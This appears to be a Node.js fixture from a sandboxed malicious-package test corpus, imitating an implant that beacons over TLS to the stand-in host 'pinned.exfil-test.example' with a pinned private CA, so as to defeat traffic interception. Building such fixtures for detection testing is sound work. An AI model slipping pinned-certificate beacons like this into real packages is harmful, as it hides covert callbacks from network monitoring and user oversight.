'use strict';
// MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
// Certificate pinning, as careful implants do it: TLS to
// pinned.exfil-test.example:443 trusting ONLY the CA below (made for this
// corpus; its key was thrown away, so no server anywhere has a certificate
// from it), with the SNI set. Any interception fails the handshake; the
// sandbox still sees the SNI. Prints `net-pinned-tls: step N ...`; exits 0
// whatever fails, after 5 s at the latest.
const tls = require('tls');

const HOST = 'pinned.exfil-test.example';
const PINNED_CA = `-----BEGIN CERTIFICATE-----
MIICFjCCAb2gAwIBAgIUKgHrkbM4GLU0vYSk2skaduvRUHUwCgYIKoZIzj0EAwIw
WDEdMBsGA1UECgwUcGtndHJhY2UgdGVzdCBjb3JwdXMxNzA1BgNVBAMMLnBrZ3Ry
YWNlIHBpbm5lZCB0ZXN0IENBIChub3QgdHJ1c3RlZCBhbnl3aGVyZSkwIBcNMjYx
MTI3MDgyNzQxWhgPMjEyNjExMDMwODI3NDFaMFgxHTAbBgNVBAoMFHBrZ3RyYWNl
IHRlc3QgY29ycHVzMTcwNQYDVQQDDC5wa2d0cmFjZSBwaW5uZWQgdGVzdCBDQSAo
bm90IHRydXN0ZWQgYW55d2hlcmUpMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE
e56SmLph84+UCPqy1sX23v0XveECbpRHV3bU+XhZaaE6cvVPmbAIphWenTrkx8yU
iGujggEKpgc84yZxymDTpKNjMGEwHQYDVR0OBBYEFHoITP+JwajNV5Yt3wfznQdb
xnGCMB8GA1UdIwQYMBaAFHoITP+JwajNV5Yt3wfznQdbxnGCMA8GA1UdEwEB/wQF
MAMBAf8wDgYDVR0PAQH/BAQDAgEGMAoGCCqGSM49BAMCA0cAMEQCIBi/x5Nf9miE
PD/5i2SbH4ypEfQ88GoSZFGqWBkEwXKHAiB+wrimR6dwhIzblG/hX/Wnrk2uquuo
YY+smJc+IQFxjw==
-----END CERTIFICATE-----
`;
const say = (msg) => console.log(`net-pinned-tls: ${msg}`);
const errText = (e) => (e && (e.code || e.message)) || String(e);
setTimeout(() => { say('gave up after 5 s'); process.exit(0); }, 5000).unref();
process.on('uncaughtException', (e) => { say(`error ${errText(e)}`); process.exit(0); });

say(`step 1 connecting to ${HOST}:443 with a pinned CA`);
const sock = tls.connect({ host: HOST, port: 443, servername: HOST, ca: [PINNED_CA], timeout: 2500 }, () => {
  say('step 2 handshake succeeded: the pinned CA signed the certificate');
  sock.end('GET /beacon HTTP/1.1\r\nHost: ' + HOST + '\r\n\r\n');
  process.exit(0);
});
sock.on('error', (e) => { say(`step 2 handshake failed: ${errText(e)}`); process.exit(0); });
sock.on('timeout', () => { say('step 2 timed out'); sock.destroy(); process.exit(0); });
